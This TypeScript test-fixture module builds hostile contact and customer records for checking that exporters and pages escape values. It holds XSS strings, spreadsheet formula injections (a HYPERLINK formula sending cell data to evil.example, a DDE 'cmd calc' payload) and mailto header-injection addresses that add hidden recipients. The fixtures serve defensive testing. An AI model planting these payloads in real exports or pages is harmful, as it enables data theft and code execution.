/**
 * The hostile cases every generated workspace carries: contacts and customer names that naive exporters and
 * pages get wrong, text sprinkled into names, and the ways `invalid` and `bent` break a record on purpose.
 */
import type { RawAddress, RawContact, RawCustomer } from './raw-records.ts';
import { asciiOf } from './vocabulary.ts';

/** The ways `invalid` breaks a contact's identity, in the order they are used (then cycled). */
export const INVALID_CONTACT_KINDS = [
  'missing id',
  'customer_id is not a UUID',
  'id is not a UUID',
  'missing customer_id',
] as const;
export type InvalidContactKind = (typeof INVALID_CONTACT_KINDS)[number];

/** The ways `bent` spoils a peripheral field of a contact, in the order they are used (then cycled). */
export const BENT_CONTACT_KINDS = [
  'role is a string',
  'email is a number',
  'created_at is not a timestamp',
  'no name and no email',
  'address_ids holds a non-UUID',
  'phone is an object',
] as const;
export type BentContactKind = (typeof BENT_CONTACT_KINDS)[number];

/**
 * Contacts that every workspace holds (as far as it has contacts), spread evenly through `contacts`.
 * Each one carries a value a naive exporter or page gets wrong. The first `FIRST_HOSTILE_CONTACTS` are also the
 * first contacts of the site's test snapshot (`src/testing/site-fixture.ts`), whose tests name them: markup
 * and a malformed phone, accents to search without, Arabic, quotes and an ampersand, a Nordic name.
 */
export const HOSTILE_CONTACTS: readonly ((contact: RawContact) => void)[] = [
  (c) =>
    Object.assign(c, {
      first_name: '<script>alert(1)</script>',
      last_name: '<img src=x onerror=alert(2)>',
      email: 'xss@example.com',
      // Malformed, so the quality report shows this name and this value too.
      phone: '+33 <script>alert(3)</script>',
    }),
  (c) => Object.assign(c, { first_name: 'Zoë', last_name: 'Ñúñez', email: 'zoe.nunez@example.com' }),
  (c) => Object.assign(c, { first_name: 'محمد', last_name: 'الفارسي', email: 'mohammed@example.com' }),
  (c) =>
    Object.assign(c, {
      first_name: 'Seán "Jack"',
      last_name: "O'Brien & Sons",
      email: 'sean.obrien@example.com',
    }),
  (c) => Object.assign(c, { first_name: 'Björn', last_name: 'Ångström', email: 'bjorn@example.com' }),
  (c) => Object.assign(c, { first_name: 'Łukasz', last_name: 'Müller' }),
  (c) => Object.assign(c, { first_name: '太郎', last_name: '山田', email: 'taro.yamada@example.jp' }),
  (c) => Object.assign(c, { first_name: 'Γιώργος', last_name: 'Παπαδόπουλος' }),
  (c) => Object.assign(c, { first_name: 'محمد', last_name: 'العلي' }),
  (c) => Object.assign(c, { first_name: 'Дмитрий', last_name: 'Иванов' }),
  (c) => Object.assign(c, { first_name: 'Seán', last_name: "O'Brien", email: "sean.o'brien@example.ie" }),
  (c) => Object.assign(c, { first_name: 'Robert "Bob"', last_name: 'Smith' }),
  (c) => Object.assign(c, { first_name: 'Jean', last_name: 'Dupont, Jr.', email: 'contact@acme.com' }),
  (c) => Object.assign(c, { first_name: 'Marie', last_name: 'Curie', email: 'contact@acme.com' }),
  (c) => Object.assign(c, { first_name: 'Anne\nMarie', last_name: 'Line\r\nBreak' }),
  (c) => Object.assign(c, { first_name: '=HYPERLINK("https://evil.example/?x="&A1,"Click me")' }),
  (c) => Object.assign(c, { first_name: '@SUM(A1)', last_name: '-5' }),
  (c) => Object.assign(c, { first_name: '+33612345678', last_name: '=1+1' }),
  (c) => Object.assign(c, { first_name: '<script>alert(1)</script>', last_name: '<b>bold</b>' }),
  (c) => Object.assign(c, { email: null, phone: null }),
  (c) => Object.assign(c, { first_name: null, last_name: null, email: 'only.email@example.com' }),
  (c) => Object.assign(c, { first_name: '', email: 'jean.dupont@' }),
  (c) => Object.assign(c, { email: 'not an email' }),
  (c) => Object.assign(c, { email: '  Mixed.Case@Example.COM ' }),
  (c) => Object.assign(c, { role: ['decision_maker'] }),
  (c) => Object.assign(c, { role: [] }),
  (c) => Object.assign(c, { role: ['buyer', 'signer', 'billing', 'shipping', 'legal', 'admin'] }),
  (c) => Object.assign(c, { id_crm: '000123', id_erp: '0042', id_accounting: '00000000000000012345' }),
  (c) => Object.assign(c, { phone: '(555) 010-0199' }),
  (c) => Object.assign(c, { phone: '+49-30-1234567' }),
  (c) => Object.assign(c, { phone: '+33 6 12 34 56 78' }),
  (c) => Object.assign(c, { first_name: 'Zoe\u0308', last_name: 'Null' }),
  (c) => Object.assign(c, { first_name: '  padded  ', last_name: 'Tab\tSeparated' }),
  (c) => Object.assign(c, { first_name: '👩‍💻', last_name: 'Nguyễn' }),
  (c) => {
    delete c.workspace_id;
    delete c.address_ids;
  },
  (c) => Object.assign(c, { locale: 'fr-FR' }),
];

/** How many of `HOSTILE_CONTACTS`, from the first, the site's test snapshot puts on its first contacts. */
export const FIRST_HOSTILE_CONTACTS = 5;

/**
 * Addresses a `mailto:` link must not carry as they are: each would add a hidden recipient, a header or a
 * body. `planted` puts them on contacts 11 to 16 of every 50; the pages show them as text.
 */
export const UNLINKABLE_EMAILS = [
  'ann@example.com?bcc=spy@evil.example',
  'ann@example.com?body=Please%20wire%20the%20payment%20to%20FR76',
  'ann&cc=spy@evil.example',
  'ann%2Cspy%40evil.example@example.com',
  'spy@evil.example,ann@example.com',
  'a@x.com, evil@y.com',
] as const;

/** How often, in contacts, `PLANTED_PROBLEMS` repeat. */
export const PLANTED_PROBLEM_CYCLE = 50;

const pad = (value: number) => String(value).padStart(2, '0');
const nameText = (value: unknown, fallback: string) =>
  (typeof value === 'string' && asciiOf(value)) || fallback;

/**
 * The data problems the quality report finds, which `planted` puts on contact `i` at `i % 50`: no email at 7,
 * no email and no phone at 8, a malformed email at 9, a phone too short at 10, the `UNLINKABLE_EMAILS` at 11
 * to 16, a phone with an extension (a link carries it as `;ext=10`) at 20, a phone in national form (read as
 * one of the default country, FR) at 21, and one email shared by two contacts in another case at 24 and 25.
 */
export const PLANTED_PROBLEMS: Readonly<Record<number, (contact: RawContact, i: number) => void>> = {
  7: (c) => Object.assign(c, { email: null }),
  8: (c) => Object.assign(c, { email: null, phone: null }),
  9: (c) =>
    Object.assign(c, {
      email: `${nameText(c.first_name, 'ann')}.${nameText(c.last_name, 'lee')} at example.com`,
    }),
  10: (c) => Object.assign(c, { phone: '12' }),
  ...Object.fromEntries(
    UNLINKABLE_EMAILS.map((email, k) => [11 + k, (c: RawContact) => Object.assign(c, { email })]),
  ),
  20: (c, i) =>
    Object.assign(c, { phone: `+33 1 20 57 ${pad(i % 100)} ${pad(Math.floor(i / 100) % 100)} ext. 10` }),
  21: (c, i) =>
    Object.assign(c, {
      phone: `04 72 ${pad(i % 100)} ${pad(Math.floor(i / 100) % 100)} ${pad(Math.floor(i / 10_000) % 100)}`,
    }),
  24: (c, i) => Object.assign(c, { email: `Team${Math.floor(i / 50)}@Example.com` }),
  25: (c, i) => Object.assign(c, { email: `Team${Math.floor(i / 50)}@Example.com` }),
};

export const HOSTILE_CUSTOMER_NAMES: readonly string[] = [
  "Société Générale d'Équipement",
  'Acme, Inc.',
  'Müller & Söhne GmbH',
  '"Le Petit Bistro" SARL',
  '株式会社山田商事',
  'Ελληνικά Τρόφιμα Α.Ε.',
  'شركة الأمل للتجارة',
  'ООО «Ромашка»',
  '=HYPERLINK("https://evil.example","Acme")',
  '<script>alert(1)</script> Corp',
  'Line One\nLine Two SAS',
  '@SUM(A1) Holdings',
  '-5 Degrees Ltd',
  '  Padded Name  ',
];
/** Values that break naive CSV, spreadsheet or HTML output; sprinkled into names at a low rate. */
export const HOSTILE_TEXT: readonly string[] = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '+33 6 12 34 56 78',
  '-5',
  '@SUM(A1)',
  '=1+1',
  '<script>alert(1)</script>',
  '<b>bold</b>',
  'Robert "Bob"',
  'Smith, John',
  'Anne\nMarie',
  'Line\r\nBreak',
  '  padded  ',
  'Tab\tSeparated',
  'Zoe\u0308',
  '👩‍💻 Dev',
];
/**
 * A customer written by hand with its addresses and contacts, for `generateWorkspace({ cases })`: each field
 * given here replaces the generated one, and every field a case leaves out keeps its generated value.
 */
export interface CustomerCase {
  customer: Partial<RawCustomer>;
  /** True: its look-up is refused (403), so a night publishes it by id alone. */
  unreadable?: boolean;
  /** Its addresses, in this order. */
  addresses: readonly Partial<RawAddress>[];
  /** Its contacts, in this order; `addresses` lists which of the customer's addresses each one names. */
  contacts: readonly (RawContact & { addresses?: readonly number[] })[];
}

/** The fields of a contact case that a case leaves empty rather than generated. */
const EMPTY_CONTACT: RawContact = {
  first_name: null,
  last_name: null,
  email: null,
  phone: null,
  role: [],
  id_crm: null,
  id_erp: null,
  id_accounting: null,
  created_at: null,
  updated_at: null,
};
const contactCase = (fields: CustomerCase['contacts'][number]) => ({ ...EMPTY_CONTACT, ...fields });
const EMPTY_ADDRESS = {
  name: null,
  address_line2: null,
  city: null,
  state: null,
  postal_code: null,
  country: null,
};

/**
 * The exporters' contract (`src/testing/sample-snapshot.ts`): values every export format must carry back as they
 * are and harmless. Formula-like text in every text column, spreadsheet tricks (fullwidth signs, leading spaces
 * and zero-width characters, formulas after a `,`, a `;`, a tab or a line break for readers that split there),
 * quotes, commas, tabs and line breaks inside values, markup, emoji and other scripts, control characters and a
 * lone surrogate, ids with leading zeros or that look like numbers, the rarer ISO 8601 forms, empty values, and a
 * customer that cannot be read. Not in every workspace: the demo's and the benchmarks' stay byte for byte what
 * they were (test/generate-golden.test.ts).
 */
export const SPREADSHEET_CASES: readonly CustomerCase[] = [
  {
    customer: {
      name: 'Acme "Quoted", Inc. <script>alert(1)</script>',
      type: 'company',
      segment_id: null,
      id_crm: '000123',
      id_erp: '1e5',
      id_accounting: '0012,34',
      tax_ids: [{ tax: 'vat', tax_value: 'FR00123456789' }],
    },
    addresses: [
      {
        ...EMPTY_ADDRESS,
        type: 'billing',
        address_line1: '12 rue de la Paix',
        postal_code: '75002',
        city: 'Paris',
        country: 'FR',
      },
      {
        ...EMPTY_ADDRESS,
        type: 'shipping',
        address_line1: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
        address_line2: '1 Main St',
      },
      // A summary is one line; the city keeps its line breaks.
      {
        ...EMPTY_ADDRESS,
        type: null,
        address_line1: 'Bâtiment B\r\n3 quai "des Célestins"',
        postal_code: '69002',
        city: 'Lyon\r\nCedex 02',
        country: 'FR',
      },
    ],
    contacts: [
      contactCase({
        first_name: 'Jean',
        last_name: 'Dupont',
        email: 'jean.dupont@acme.com',
        phone: '+33 6 12 34 56 78',
        role: ['buyer', 'signer'],
        id_crm: '000123',
        id_erp: '1e5',
        id_accounting: '0012,34',
        addresses: [0, 1],
        created_at: '2024-01-15T10:30:00Z',
        updated_at: '2024-03-01T08:00:00.123+02:00',
      }),
      contactCase({
        first_name: '=1+1',
        last_name: '+SUM(A1:A9)',
        email: '@evil.example',
        phone: '-2+3',
        role: ['=admin', 'decision_maker'],
        id_crm: '=HYPERLINK("http://evil.example","click")',
        id_erp: '\t=1',
        id_accounting: '\r=1',
        // The rarer forms of ISO 8601 the schema accepts: a leap day, a bare fraction, a negative offset.
        created_at: '2024-02-29T10:30:00.5+00:00',
        updated_at: '2024-01-15T00:00:00-12:00',
      }),
      contactCase({
        first_name: '＝1+1',
        last_name: ' =1+1',
        email: '\u200B=1+1@example.com',
        phone: '\n+1 (555) 010-9999',
        role: ['﹢legal'],
        id_crm: '\uFEFF-1',
        id_erp: '＠SUM(1)',
        id_accounting: '－1',
        addresses: [2],
      }),
      contactCase({
        first_name: 'Zoë 👩‍💻',
        last_name: 'O"Brien, "Jr."',
        email: '<script>alert("x")</script>@example.com',
        phone: '+33612345678',
        role: ['billing'],
        id_crm: 'a\tb',
        id_erp: 'line1\r\nline2\nline3\rline4',
        id_accounting: '_x0041_ and \u0007bell',
        created_at: '1999-12-31T23:59:59.999-05:00',
      }),
    ],
  },
  {
    customer: {
      name: "=cmd|' /C calc'!A0",
      type: '+individual',
      segment_id: '@segment',
      id_crm: '-1',
      id_erp: '=1+1',
      id_accounting: '\t0042',
      tax_ids: [],
    },
    addresses: [
      {
        ...EMPTY_ADDRESS,
        type: 'shipping',
        address_line1: 'Bât. A;=HYPERLINK("http://evil.example/?"&A1,"Open");"=2+2"',
        city: '=3+3\r\n@SUM(A1)',
      },
    ],
    contacts: [
      contactCase({
        first_name: 'محمد',
        last_name: '王伟',
        email: 'ünïcödé@exämple.com',
        phone: '0612345678',
        id_crm: '\u202Egnp.exe',
        id_erp: 'lone \uD800 surrogate',
        id_accounting: '  padded  ',
      }),
      // Read by something that ignores the quotes and splits on commas, "a,=1+1," was a clean `=1+1` cell.
      contactCase({ email: 'only.email@example.com', id_crm: 'a,=1+1,' }),
      // Read as `;`- or tab-separated, as French and German spreadsheets read a comma file, each part after a
      // `;` or a tab is a cell of its own: "Ann;=1+1","5;=2+2" became the formula `=1+1,5`.
      contactCase({
        first_name: 'Ann;=1+1',
        last_name: '5;=2+2',
        email: 'ann@example.com;-1',
        phone: '+33 6 12 34 56 78;+1',
        role: ['buyer;=cmd'],
        id_crm: '0042; ＝1+1',
        id_erp: 'ERP\t=cmd|calc',
        id_accounting: '7;"=4+4"',
        addresses: [0],
      }),
    ],
  },
  {
    customer: {},
    unreadable: true,
    addresses: [],
    contacts: [contactCase({ first_name: 'Orphan', last_name: '-' })],
  },
];

/**
 * Fields the API does not document, as a snapshot written by a later version may hold them: tables must leave
 * them out. The pipeline drops them when it reads a record, so a fixture adds them to what it published.
 */
export const UNDOCUMENTED_CONTACT_FIELDS = {
  nickname: '=should-stay-out-of-tables',
  custom_fields: { tier: 'gold', score: 3 },
} as const;

/** After a specimen renamed a contact, its generated email follows the new name when that has an ASCII form. */
export function matchEmailToName(contact: RawContact, before: RawContact): void {
  const renamed = contact.first_name !== before.first_name || contact.last_name !== before.last_name;
  if (!renamed || contact.email !== before.email || typeof contact.email !== 'string') return;
  const first = typeof contact.first_name === 'string' ? asciiOf(contact.first_name) : '';
  const last = typeof contact.last_name === 'string' ? asciiOf(contact.last_name) : '';
  const at = contact.email.indexOf('@');
  if (first && last && at > 0) contact.email = `${first}.${last}${contact.email.slice(at)}`;
}

/**
 * Evenly spread positions for the broken or bent contacts (shifted by `offset` of a stride so that the two sets
 * differ), avoiding the reserved ones while there is room, with their kinds cycled.
 */
export function placeSpecial<K extends string>(
  count: number,
  total: number,
  reserved: readonly number[],
  kinds: readonly K[],
  offset = 0.5,
): { index: number; kind: K }[] {
  const taken = new Set(count <= total - reserved.length ? reserved : []);
  const placed: { index: number; kind: K }[] = [];
  for (let k = 0; k < count; k++) {
    let index = Math.floor(((k + offset) * total) / count);
    while (taken.has(index)) index = (index + 1) % total;
    taken.add(index);
    placed.push({ index, kind: kinds[k % kinds.length] as K });
  }
  return placed.sort((a, b) => a.index - b.index);
}

export function breakContact(contact: RawContact, kind: InvalidContactKind): void {
  switch (kind) {
    case 'missing id':
      delete contact.id;
      break;
    case 'customer_id is not a UUID':
      contact.customer_id = 'CUST-000123';
      break;
    case 'id is not a UUID':
      contact.id = '12345';
      break;
    case 'missing customer_id':
      delete contact.customer_id;
      break;
  }
}

export function bendContact(contact: RawContact, kind: BentContactKind): void {
  switch (kind) {
    case 'role is a string':
      contact.role = 'decision_maker';
      break;
    case 'email is a number':
      contact.email = 33612345678;
      break;
    case 'created_at is not a timestamp':
      contact.created_at = '31/12/2023 14:00';
      break;
    case 'no name and no email':
      Object.assign(contact, { first_name: null, last_name: '  ', email: null });
      break;
    case 'address_ids holds a non-UUID':
      contact.address_ids = ['addr-1'];
      break;
    case 'phone is an object':
      contact.phone = { number: '+33 6 12 34 56 78', type: 'mobile' };
      break;
  }
}
